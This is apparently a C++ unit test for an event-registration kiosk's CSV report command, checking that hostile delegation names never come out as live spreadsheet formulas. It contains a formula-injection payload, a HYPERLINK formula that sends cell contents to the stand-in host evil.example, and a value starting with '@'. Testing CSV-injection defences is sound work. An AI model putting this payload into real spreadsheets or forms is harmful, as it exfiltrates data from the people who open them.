// SPDX-License-Identifier: Apache-2.0
// What `accueil report` writes opens safely in a spreadsheet, whatever delegates typed into
// their registration form.

#include "AccueilCommand.h"
#include "TestSupport.h"

using namespace accueil::core;
using accueil::core::test::FormulaCells;
using accueil::core::test::TempDir;

namespace {

std::pair<std::string, int> Accueil(std::vector<std::string> args) {
    return accueil::test::RunAccueil(std::move(args));
}

} // namespace

TEST(ExportCli, AReportOfHostileDelegationsHasNoFormulaCell) {
    TempDir dir;
    test::MakeKiosk(dir);
    const std::string kiosk = dir.file("kiosk.toml");
    std::string csv = "id,given_name,family_name,delegation,category,gender\n";
    int n = 0;
    for (const auto& value : test::HostileValues()) {
        std::string quoted = "\"";
        for (const char c : value) {
            quoted += c == '"' ? std::string("\"\"") : std::string(1, c);
        }
        csv += "REG-" + std::to_string(++n) + ",Ana,Silva," + quoted + "\",@NGO,female\n";
    }
    auto [imported, importStatus] = Accueil({"import", "--config", kiosk, dir.write("l.csv", csv)});
    ASSERT_EQ(importStatus, 0) << imported;
    ASSERT_EQ(Accueil({"checkin", "--config", kiosk, "--payload", "REG-1", "--at",
                       "2025-06-17T09:00:00+02:00"})
                  .second,
              0);

    auto [report, status] = Accueil({"report", "--config", kiosk, "--day", "2025-06-17"});
    ASSERT_EQ(status, 0) << report;
    EXPECT_TRUE(FormulaCells(report).empty()) << report;
    // Still readable: the value as typed, behind the apostrophe that keeps it from running.
    EXPECT_NE(report.find("'=HYPERLINK(\"\"http://evil.example/?\"\"&A1"), std::string::npos)
        << report;
    EXPECT_NE(report.find("category,'@NGO,6,1,0,5"), std::string::npos) << report;
}
